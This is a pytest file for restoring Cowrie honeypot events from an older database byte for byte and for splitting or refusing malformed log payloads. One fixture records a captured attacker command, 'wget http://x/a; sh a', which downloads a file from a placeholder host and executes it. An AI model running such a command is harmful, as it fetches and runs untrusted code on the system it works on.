"""What the old tool stored of an event becomes the line that Cowrie wrote."""

import json
from typing import Any

import pytest

from producers.cowrie.generator import Plan, lines
from producers.cowrie.importing.payloads import Remains, event_lines, restored
from tallystick.contracts.cowrie import UnreadableLine
from tests.old_database import rewritten

EVENT = {"eventid": "cowrie.command.input", "input": "wget http://x/a; sh a", "timestamp": "2026-01-01T00:00:00Z"}
STORED = rewritten(json.dumps(EVENT).encode())


def event_line(payload: bytes) -> bytes | Remains:
    [line] = event_lines(payload, most=1)
    return line


def written(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


def test_every_generated_event_comes_back_byte_for_byte() -> None:
    for line in lines(Plan(events=2_000, seed=3)):
        assert event_line(json.dumps(rewritten(line)).encode()) == line.rstrip(b"\n")


@pytest.mark.parametrize(
    ("stored", "event"),
    [
        pytest.param(STORED, EVENT, id="an altered command whose original was kept is put back"),
        pytest.param(
            EVENT | {"input": "ls", "command_analysis": {}, "input_safe": "ls", "command_safe": "ls"},
            EVENT | {"input": "ls"},
            id="of a command that was left alone only the additions go",
        ),
        pytest.param(EVENT, EVENT, id="an event without additions stays"),
    ],
)
def test_commands_come_back(stored: dict[str, Any], event: dict[str, Any]) -> None:
    assert restored(stored) == event
    assert list(restored(stored)) == list(event), "in the order of the log"


@pytest.mark.parametrize(
    "stored",
    [
        pytest.param({**STORED, "input_hash": "0" * 64}, id="the original does not fit its hash"),
        pytest.param({k: v for k, v in STORED.items() if k != "input_original"}, id="the original was not kept"),
        pytest.param({k: v for k, v in STORED.items() if k != "input_hash"}, id="the hash was not kept"),
        pytest.param({**STORED, "input": None}, id="the oldest versions stored no command at all"),
        pytest.param({**STORED, "input": "something else"}, id="the command is not the harmless text"),
    ],
)
def test_in_doubt_an_event_stays_as_it_was_stored(stored: dict[str, Any]) -> None:
    assert restored(stored) == stored


LINE = b'{"eventid": "cowrie.x",  "timestamp": "2026-01-01T00:00:00Z"}'


@pytest.mark.parametrize(
    ("payload", "line"),
    [
        pytest.param(written(LINE.decode()), written(json.loads(LINE)), id="a text that holds JSON"),
        pytest.param(written({"malformed_content": LINE.decode()}), LINE, id="a refused line has its own bytes"),
        pytest.param(
            written({"_dead_letter": True, "_malformed_content": f" {LINE.decode()} "}), LINE, id="spaces around it"
        ),
        pytest.param(
            written({"malformed_content": json.dumps(json.loads(LINE), indent=2)}),
            written(json.loads(LINE)),
            id="a refused object of several lines",
        ),
        pytest.param(
            b'{"eventid":"x","malformed_content":"y"}',
            b'{"eventid":"x","malformed_content":"y"}',
            id="an event with such a field",
        ),
        pytest.param(b'{"a":"\\ud800"}', b'{"a":"\\ud800"}', id="a lone surrogate"),
        pytest.param(b'{"a":NaN}', b'{"a":NaN}', id="NaN"),
        pytest.param(b'{"a":"\xff"}', b'{"a":"\\udcff"}', id="bytes that are no UTF-8, escaped"),
        pytest.param(written({"malformed_content": "half a li"}), b"half a li", id="no event: left to the reader"),
    ],
)
def test_payloads_of_other_shapes(payload: bytes, line: bytes) -> None:
    assert event_line(payload) == line


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        pytest.param(b"null", "not a JSON object", id="null"),
        pytest.param(b"", "not JSON", id="nothing"),
        pytest.param(b"[1]", "not a JSON object", id="a list"),
        pytest.param(written("a text"), "not JSON", id="a text that holds none"),
        pytest.param(b'{"a":' * 100_000, "nested too deep", id="nested too deep"),
        pytest.param(written({"malformed_content": "a\nb"}), "not JSON", id="several lines that are no object"),
    ],
)
def test_what_holds_no_object_is_refused(payload: bytes, reason: str) -> None:
    with pytest.raises(UnreadableLine) as refused:
        event_line(payload)
    assert refused.value.reason == reason


OBJECTS = [json.loads(line) for line in lines(Plan(events=3, seed=4))]
PRETTY = ["\n".join(line.strip() for line in json.dumps(found, indent=4).splitlines()) for found in OBJECTS]
HALF = PRETTY[0].partition("\n")[2]


@pytest.mark.parametrize(
    ("content", "parts"),
    [
        pytest.param("\n".join(PRETTY), [*map(written, OBJECTS)], id="objects that are spread over lines"),
        pytest.param(
            "\n".join(json.dumps(found) for found in OBJECTS), [*map(written, OBJECTS)], id="objects on one line each"
        ),
        pytest.param(
            "\n".join((HALF, *PRETTY, "{", HALF[:30])),
            [Remains(HALF.encode()), *map(written, OBJECTS), Remains(("{\n" + HALF[:30]).strip().encode())],
            id="with half an object before and after",
        ),
        pytest.param(
            "\n".join((PRETTY[0], "[", PRETTY[1], "junk")),
            [written(OBJECTS[0]), Remains(b"["), written(OBJECTS[1]), Remains(b"junk")],
            id="with other things between",
        ),
        pytest.param(f" {PRETTY[0]} {PRETTY[1]}", [*map(written, OBJECTS[:2])], id="one after the other on a line"),
    ],
)
def test_several_objects_that_were_refused_together_come_one_by_one(content: str, parts: list[bytes | Remains]) -> None:
    payload = written({"malformed_content": content})
    assert event_lines(payload, most=10) == parts
    with pytest.raises(UnreadableLine):
        event_lines(payload, most=len(parts) - 1)
